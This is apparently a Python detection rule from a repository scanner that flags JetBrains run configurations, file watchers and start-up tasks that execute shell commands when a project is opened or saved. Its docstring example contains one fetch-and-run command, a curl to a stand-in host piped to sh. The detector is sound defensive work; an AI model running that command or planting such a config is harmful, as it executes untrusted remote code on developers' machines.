"""What it sees
    JetBrains project files (`.idea/*.xml`, `.run/*.xml`) that run shell scripts or programs: run configurations with a
    shell script, file watchers, external tools, start-up tasks.

Why it matters
    `startup.xml` runs its configurations when the project is opened and trusted; file watchers run at every save.

Example
    <option name="SCRIPT_TEXT" value="curl -s https://a.test/x | sh" />

What to do
    Open the project in safe mode; read the commands.

False alarms
    Ordinary run configurations are not reported; start-up tasks are context.

References
    JetBrains documentation, "Startup tasks", "File watchers"; ATT&CK T1204.002.
"""

import html
import re
from collections.abc import Iterator
from itertools import islice

from lazaretto.detect.commands import uninvited
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity, Signal
from lazaretto.model.text import N_
from lazaretto.parse.shell import analyse
from lazaretto.parse.views import TextFile

_OPTION = re.compile(
    r"<option\s{1,8}name=\"(SCRIPT_TEXT|SCRIPT_PATH|SCRIPT_OPTIONS|COMMAND|PARAMETERS|PROGRAM|program|arguments|INTERPRETER_OPTIONS)\"\s{1,8}value=\"([^\"]{1,4000})\""
)
_PLACE = re.compile(r"(?:^|/)\.(?:idea|run)/.{1,200}\.xml$")


def check(view: TextFile) -> Iterator[Match | Signal]:
    """Judge the commands of JetBrains files."""
    if not _PLACE.search(view.path):
        return
    text = view.blob.text
    at_open = view.blob.name in {"startup.xml", "watchertasks.xml"} or "<config_watch" in text
    for found in islice(_OPTION.finditer(text), 2000):
        command = html.unescape(found.group(2))
        danger = uninvited(analyse(command))
        line = text.count("\n", 0, found.start()) + 1
        if danger is not None:
            yield danger.match(found.group(1), line, command, Phase.OPEN if at_open else Phase.RUN)
    if view.blob.name == "startup.xml" and "<configuration" in text:
        yield Match(
            N_("the IDE runs a configuration when the project is opened"), line=view.blob.find_line("<configuration")
        )


RULE = Rule(
    id="repo/ide-run-config",
    title=N_("IDE project files run commands"),
    view=TextFile,
    severity=Severity.LOW,
    confidence=Confidence.MEDIUM,
    phase=Phase.OPEN,
    role=Role.TRIGGER,
    check=check,
    doc=__doc__,
    techniques=("T1204.002",),
    needles=(
        b"SCRIPT_TEXT",
        b"SCRIPT_PATH",
        b"SCRIPT_OPTIONS",
        b"ProjectTasksOptions",
        b"ProjectStartup",
        b"TaskOptions",
    ),
)
